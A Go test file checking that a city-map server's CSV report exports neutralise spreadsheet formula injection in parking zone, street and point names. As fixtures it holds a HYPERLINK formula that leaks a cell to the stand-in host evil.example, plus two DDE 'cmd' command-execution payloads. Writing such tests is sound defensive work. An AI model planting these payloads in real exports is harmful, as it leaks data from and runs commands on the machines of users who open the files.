package reports_test

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"citymap/server/access"
)

// TestCSVFormulas: names that a spreadsheet would run as formulas — a parking
// zone's, a street's, a point's — leave the real exports as text with a leading
// quote, while the numbers beside them stay numbers.
func TestCSVFormulas(t *testing.T) {
	e := withFixture(t)
	const (
		zoneName   = `=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")`
		streetName = `-2+3+cmd|' /C calc'!A0`
		pointName  = `@SUM(1+1)*cmd|' /C calc'!A0`
	)
	e.Exec(`INSERT INTO parking_zones (code, name, kind, capacity, occupied, geom)
		VALUES ('FX-Z1', $1, 'smart', 10, 0, ST_SetSRID(ST_MakePoint(121.05, 30.05), 4326))`, zoneName)
	e.Exec(`INSERT INTO parking_readings (zone_id, at, occupied)
		SELECT id, '2020-03-02 09:00+08'::timestamptz + n * interval '1 day', 5 FROM parking_zones, generate_series(0, 2) n
		WHERE code = 'FX-Z1'`)
	e.Exec(`UPDATE areas SET name = $1 WHERE code = '329999001'`, streetName)
	e.Exec(`UPDATE points SET name = $1 WHERE code = 'FX-P1'`, pointName)

	cases := []struct {
		path, key, keyCol, textCol, text, numCol string
	}{
		{"/api/v1/reports/parking?by=zone&zone=FX-Z1&" + march, "FX-Z1", "zone", "name", zoneName, "capacity"},
		{"/api/v1/reports/parking?by=hour&zone=FX-Z1&" + march, "FX-Z1", "zone", "name", zoneName, "utilization"},
		{"/api/v1/reports/areas?level=street&area=329999&" + march, "329999001", "code", "name", streetName, "new"},
		{"/api/v1/reports/redblack?entity=areas&level=street&area=329999&" + march, "329999001", "code", "name", streetName, "value"},
		{"/api/v1/points/overdue?area=329999", "FX-P1", "code", "name", pointName, "days_overdue"},
	}
	for _, c := range cases {
		t.Run(c.path, func(t *testing.T) {
			r := e.Get(c.path, access.Admin, "Accept", "text/csv")
			records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\uFEFF")))).ReadAll()
			if err != nil || len(records) < 2 {
				t.Fatalf("CSV %v:\n%s", err, r.Body)
			}
			col := map[string]int{}
			for i, name := range records[0] {
				col[name] = i
			}
			found := false
			for _, rec := range records[1:] {
				if rec[col[c.keyCol]] != c.key {
					continue
				}
				found = true
				if got := rec[col[c.textCol]]; got != "'"+c.text {
					t.Errorf("%s = %q, want %q", c.textCol, got, "'"+c.text)
				}
				if n := rec[col[c.numCol]]; n != "" {
					if _, err := strconv.ParseFloat(n, 64); err != nil {
						t.Errorf("%s = %q is no longer a number", c.numCol, n)
					}
				}
			}
			if !found {
				t.Fatalf("no row %s = %s:\n%s", c.keyCol, c.key, r.Body)
			}
			// JSON keeps the name as it is
			rows := get(e, strings.Replace(c.path, "?", "?format=json&", 1), access.Admin).Rows
			if got := row(t, rows, c.keyCol, c.key)[c.textCol]; got != c.text {
				t.Errorf("JSON %s = %q, want %q", c.textCol, got, c.text)
			}
		})
	}
}
